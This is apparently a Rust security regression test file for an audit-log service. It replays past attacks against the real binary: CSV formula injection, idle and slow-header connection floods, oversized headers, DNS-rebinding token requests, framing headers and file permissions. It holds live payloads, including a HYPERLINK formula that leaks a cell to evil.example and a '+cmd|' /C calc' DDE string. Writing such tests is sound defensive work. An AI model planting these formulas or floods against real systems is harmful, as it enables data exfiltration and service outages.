//! The attacks on the running system that once got through, each performed
//! against the real binary: formulas planted for the admin's CSV export, idle and
//! slow-header connections that starved the service, an oversized request id
//! past the header limit, a rebinding page asking for a demo token, framing and
//! sniffing of the website, and data files readable by other users.
//!
//! Each failed against the build before its fix; `AUDITLOG_TEST_BINARY=<path>`
//! runs them against another build to see that again.

#![allow(clippy::unwrap_used)] // test code: a panic is the failure report

use crate::common;

use std::net::SocketAddr;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use common::{Client, Running, binary, data_dir};
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// What a spreadsheet runs when a cell starts with it (OWASP, "CSV Injection").
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
/// The formula of the original finding: it sends the neighbouring cell away.
const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")";

fn addr_of(url: &str) -> SocketAddr {
    url.trim_start_matches("http://").parse().unwrap()
}

/// Sends `request` as it is on a new connection and reads the answer to its end
/// (the requests here ask the server to close).
async fn raw(addr: SocketAddr, request: &str) -> String {
    common::send_raw(&addr.to_string(), request).await
}

/// The fields of every row of an RFC 4180 document, unquoted.
fn csv_fields(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut field) = (Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(
        !quoted && field.is_empty() && row.is_empty(),
        "ends with CRLF"
    );
    rows
}

/// Every field of `csv` is text to a spreadsheet, and the planted formulas are
/// there, defused.
fn assert_no_live_formula(csv: &str, via: &str) {
    let rows = csv_fields(csv);
    assert!(rows.len() > 3, "{via}: {csv}");
    for field in rows.iter().flatten() {
        assert!(
            !field.starts_with(TRIGGERS),
            "{via}: a live formula in the export: {field:?}"
        );
    }
    let fields: Vec<&String> = rows.iter().flatten().collect();
    for planted in [HYPERLINK, "=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-5"] {
        let defused = format!("'{planted}");
        assert!(
            fields.iter().any(|f| **f == defused),
            "{via}: {defused:?} is missing from {csv}"
        );
    }
}

#[tokio::test]
async fn csv_exports_hold_no_live_formula_whoever_chose_the_fields() {
    let (_tmp, dir) = data_dir();
    let system = Running::up(&dir);
    let admin = Client::new(&system.urls.api).login(1).await;
    let (member_id, member) = admin.new_member("Mel", "mel@example.com").await;

    // A member names its request with a formula, as in the finding.
    let read = member
        .send(
            member
                .http
                .get(format!("{}/api/users/{member_id}", system.urls.api))
                .header("x-request-id", "=1+1"),
        )
        .await;
    assert_eq!(read.status, 200);
    // A producer (here the admin, who may ingest) fills every free field with one.
    let planted = json!({
        "action": "viewed", "actorType": "users", "actorId": -5,
        "targetType": "reports", "targetId": HYPERLINK,
        "eventName": "@SUM(A1)", "source": "+cmd|' /C calc'!A0", "requestId": "=1+1",
    });
    let stored = admin
        .http
        .post(format!("{}/api/data-events", system.urls.auditor))
        .bearer_auth(admin.token.as_deref().unwrap())
        .header("content-type", "application/x-ndjson")
        .body(format!("{planted}\n"))
        .send()
        .await
        .unwrap();
    assert_eq!(
        stored.status().as_u16(),
        200,
        "{}",
        stored.text().await.unwrap()
    );

    let export = |base: String| {
        let http = admin.http.clone();
        let token = admin.token.clone().unwrap();
        async move {
            let answer = http
                .get(format!("{base}/api/data-events?format=csv"))
                .bearer_auth(token)
                .header("accept", "text/csv")
                .send()
                .await
                .unwrap();
            assert_eq!(answer.status().as_u16(), 200);
            answer.text().await.unwrap()
        }
    };
    // Wait until the event is stored, then export it every way there is.
    let deadline = Instant::now() + Duration::from_secs(10);
    while !export(system.urls.auditor.clone())
        .await
        .contains("SUM(A1)")
    {
        assert!(
            Instant::now() < deadline,
            "the planted event was not stored"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_no_live_formula(&export(system.urls.auditor.clone()).await, "the auditor");
    assert_no_live_formula(&export(system.urls.api.clone()).await, "the primary API");
    // The website's Export button fetches this URL through its proxy.
    assert_no_live_formula(&export(system.urls.web.clone()).await, "the website");
    let file = dir.join("export.csv");
    let status = Command::new(binary())
        .args(["export", "--api-url", &system.urls.api, "--as-user", "1"])
        .args(["--format", "csv", "-o", file.to_str().unwrap()])
        .status()
        .unwrap();
    assert!(status.success());
    assert_no_live_formula(&std::fs::read_to_string(&file).unwrap(), "auditlog export");
}

/// p99 of `samples`.
fn p99(mut samples: Vec<Duration>) -> Duration {
    samples.sort();
    samples[(samples.len() * 99).div_ceil(100) - 1]
}

/// Raises this test process's own open-file limit: it holds thousands of
/// connections too.
fn raise_own_open_file_limit(needed: u64) {
    use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
    let limit = getrlimit(Resource::Nofile);
    let hard = limit.maximum.unwrap_or(u64::MAX);
    assert!(
        hard >= needed,
        "this test needs {needed} open files and the hard limit is {hard}: raise it (ulimit -Hn)"
    );
    setrlimit(
        Resource::Nofile,
        Rlimit {
            current: limit.maximum,
            maximum: limit.maximum,
        },
    )
    .unwrap();
}

#[tokio::test]
async fn idle_and_slow_header_connections_leave_the_service_answering() {
    const IDLE: usize = 2_000;
    const SLOW: usize = 20;
    /// The default `--http-header-timeout`.
    const HEADER_TIMEOUT_S: u64 = 10;
    raise_own_open_file_limit(3 * IDLE as u64);
    let (_tmp, dir) = data_dir();
    // Started with the soft open-file limit of the finding: the service must raise
    // it itself.
    let timeout = HEADER_TIMEOUT_S.to_string();
    let args = [
        &common::UP_ON_FREE_PORTS[..],
        &["--http-header-timeout", &timeout],
    ]
    .concat();
    let system = Running::start_after("ulimit -Sn 256", &args, &dir, 3);
    let api = Client::new(&system.urls.api).login(1).await;
    let addr = addr_of(&system.urls.api);
    let opened = Instant::now();

    let mut idle = Vec::with_capacity(IDLE);
    for _ in 0..IDLE {
        idle.push(TcpStream::connect(addr).await.unwrap());
    }
    let mut slow = Vec::with_capacity(SLOW);
    for _ in 0..SLOW {
        let mut stream = TcpStream::connect(addr).await.unwrap();
        stream
            .write_all(b"GET /healthz HTTP/1.1\r\nhost: 127.0.0.1\r\n")
            .await
            .unwrap();
        slow.push(stream);
    }
    // The slow ones trickle a header byte every 100 ms, never ending the head.
    let trickle = tokio::spawn(async move {
        let mut n: u64 = 0;
        loop {
            tokio::time::sleep(Duration::from_millis(100)).await;
            let mut open = 0;
            for stream in &mut slow {
                if stream.write_all(b"x").await.is_ok() {
                    open += 1;
                }
            }
            n += 1;
            if open == 0 || n > 20 * HEADER_TIMEOUT_S {
                return n;
            }
        }
    });

    // Liveness, not speed: each request is answered within a bound far above any
    // answer of a service that still serves (a few ms here) and far below what a
    // starved accept loop or an exhausted descriptor table gives (no answer at all).
    // The figures are printed for the record; benchmarks measure speed.
    const ANSWERED_WITHIN: Duration = Duration::from_secs(2);
    let (mut health, mut queries) = (Vec::new(), Vec::new());
    for _ in 0..50 {
        let started = Instant::now();
        let answer = tokio::time::timeout(ANSWERED_WITHIN, api.get("/healthz"))
            .await
            .expect("/healthz answered with every connection open");
        assert_eq!(answer.status, 200);
        health.push(started.elapsed());
        let started = Instant::now();
        let answer =
            tokio::time::timeout(ANSWERED_WITHIN, api.get("/events/on/users/1?page[size]=5"))
                .await
                .expect("a query answered with every connection open");
        assert_eq!(answer.status, 200, "{}", answer.body);
        queries.push(started.elapsed());
    }
    assert!(
        opened.elapsed() < Duration::from_secs(HEADER_TIMEOUT_S),
        "measured while every connection was still open"
    );
    let (health, queries) = (p99(health), p99(queries));
    eprintln!(
        "with {IDLE} idle and {SLOW} slow connections: p99 /healthz {health:?}, query {queries:?}"
    );

    // The server closes them all once the header timeout has passed.
    let deadline = opened + Duration::from_secs(HEADER_TIMEOUT_S + 10);
    for mut stream in idle {
        let mut byte = [0u8; 1];
        let left = deadline.saturating_duration_since(Instant::now());
        let closed = tokio::time::timeout(left, stream.read(&mut byte)).await;
        assert!(
            matches!(closed, Ok(Ok(0)) | Ok(Err(_))),
            "an idle connection was still open {:?} after it opened",
            opened.elapsed()
        );
    }
    let rounds = tokio::time::timeout(Duration::from_secs(15), trickle)
        .await
        .expect("the slow-header connections are closed")
        .unwrap();
    assert!(
        rounds <= 10 * (HEADER_TIMEOUT_S + 5),
        "slow-header connections stayed open for {rounds} rounds of 100 ms"
    );
}

#[tokio::test]
async fn a_connection_over_the_cap_is_answered_503_at_once() {
    const CAP: usize = 40;
    let (_tmp, dir) = data_dir();
    let cap = CAP.to_string();
    let system = Running::up_with(&dir, &["--http-max-connections", &cap]);
    let addr = addr_of(&system.urls.auditor);
    let mut idle = Vec::new();
    for _ in 0..CAP {
        idle.push(TcpStream::connect(addr).await.unwrap());
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    let started = Instant::now();
    let answer = raw(
        addr,
        "GET /healthz HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: close\r\n\r\n",
    )
    .await;
    let took = started.elapsed();
    assert!(answer.starts_with("HTTP/1.1 503"), "{answer}");
    assert!(answer.contains("too many open connections"), "{answer}");
    assert!(
        took < Duration::from_millis(500),
        "the refusal took {took:?}"
    );

    drop(idle);
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let answer = raw(
            addr,
            "GET /healthz HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: close\r\n\r\n",
        )
        .await;
        if answer.starts_with("HTTP/1.1 200") {
            break;
        }
        assert!(Instant::now() < deadline, "still refused: {answer}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test]
async fn an_oversized_request_id_is_refused_like_any_oversized_header() {
    let (_tmp, dir) = data_dir();
    let system = Running::up(&dir);
    let http = reqwest::Client::new();
    for base in [&system.urls.api, &system.urls.auditor, &system.urls.web] {
        for size in [20 * 1024, 300 * 1024] {
            let answer = http
                .get(format!("{base}/healthz"))
                .header("x-request-id", "r".repeat(size))
                .send()
                .await
                .unwrap();
            assert_eq!(
                answer.status().as_u16(),
                431,
                "{base} with a {size}-byte X-Request-Id"
            );
            let id = answer.headers()["x-request-id"].to_str().unwrap();
            assert_eq!(
                id.len(),
                36,
                "the refusal carries the server's own id: {id}"
            );
        }
    }
}

#[tokio::test]
async fn demo_tokens_are_handed_out_only_for_local_host_names() {
    let (_tmp, dir) = data_dir();
    let system = Running::up(&dir);
    for (service, url) in [
        ("primary API", &system.urls.api),
        ("website", &system.urls.web),
    ] {
        let addr = addr_of(url);
        let port = addr.port();
        for host in [
            "attacker.example",
            &format!("attacker.example:{port}"),
            "127.0.0.1.nip.io",
        ] {
            let answer = raw(
                addr,
                &format!("GET /tokens/1 HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n\r\n"),
            )
            .await;
            assert!(
                answer.starts_with("HTTP/1.1 403"),
                "{service} with Host {host}: {answer}"
            );
            assert!(!answer.contains("eyJ"), "no token in {answer}");
        }
        for host in [format!("127.0.0.1:{port}"), format!("localhost:{port}")] {
            let answer = raw(
                addr,
                &format!("GET /tokens/1 HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n\r\n"),
            )
            .await;
            assert!(
                answer.starts_with("HTTP/1.1 201"),
                "{service} with Host {host}: {answer}"
            );
        }
    }
}

/// The headers of `GET url`.
async fn headers_of(url: &str) -> reqwest::header::HeaderMap {
    reqwest::get(url).await.unwrap().headers().clone()
}

#[tokio::test]
async fn no_page_can_be_framed_or_sniffed_and_the_website_runs_no_inline_script() {
    let (_tmp, dir) = data_dir();
    let system = Running::up(&dir);
    let page = headers_of(&format!("{}/", system.urls.web)).await;
    let policy = page["content-security-policy"].to_str().unwrap();
    for directive in [
        "script-src 'self'",
        "frame-ancestors 'none'",
        "object-src 'none'",
    ] {
        assert!(policy.contains(directive), "{directive} in {policy}");
    }
    assert!(
        !policy.contains("unsafe-inline") && !policy.contains("unsafe-eval"),
        "{policy}"
    );
    for url in [
        format!("{}/", system.urls.web),
        format!("{}/app.js", system.urls.web),
        format!("{}/healthz", system.urls.api),
        format!("{}/api/users", system.urls.api),
        format!("{}/openapi.json", system.urls.auditor),
    ] {
        let headers = headers_of(&url).await;
        assert_eq!(headers["x-frame-options"], "DENY", "{url}");
        assert_eq!(headers["x-content-type-options"], "nosniff", "{url}");
        assert_eq!(headers["referrer-policy"], "no-referrer", "{url}");
        let policy = headers["content-security-policy"].to_str().unwrap();
        assert!(policy.contains("frame-ancestors 'none'"), "{url}: {policy}");
    }
}

/// Every file and directory under `dir` with its permission bits.
fn modes(dir: &Path, found: &mut Vec<(String, u32, bool)>) {
    for entry in std::fs::read_dir(dir).unwrap() {
        let entry = entry.unwrap();
        let meta = entry.metadata().unwrap();
        let mode = meta.permissions().mode() & 0o777;
        found.push((entry.path().display().to_string(), mode, meta.is_dir()));
        if meta.is_dir() {
            modes(&entry.path(), found);
        }
    }
}

#[tokio::test]
async fn data_files_are_private_to_the_services_user() {
    let (_tmp, dir) = data_dir();
    // A data directory left readable by everyone, and a permissive umask.
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    let system = Running::start_after("umask 000", &common::UP_ON_FREE_PORTS, &dir, 3);
    let admin = Client::new(&system.urls.api).login(1).await;
    let created = admin
        .post(
            "/api/users",
            common::user_doc(json!({"name": "Pia", "email": "pia@example.com", "agreedTos": 1})),
        )
        .await;
    assert_eq!(created.status, 201, "{}", created.body);
    let events = common::all_events(&admin, "/events/on/users/1").await;
    assert!(!events.is_empty());

    let dir_mode = std::fs::metadata(&dir).unwrap().permissions().mode() & 0o777;
    assert_eq!(dir_mode, 0o700, "the data directory");
    let mut found = Vec::new();
    modes(&dir, &mut found);
    assert!(found.len() >= 3, "{found:?}");
    for (path, mode, is_dir) in found {
        let expected = if is_dir { 0o700 } else { 0o600 };
        assert_eq!(mode & !expected, 0, "{path} is {mode:o}");
    }
}
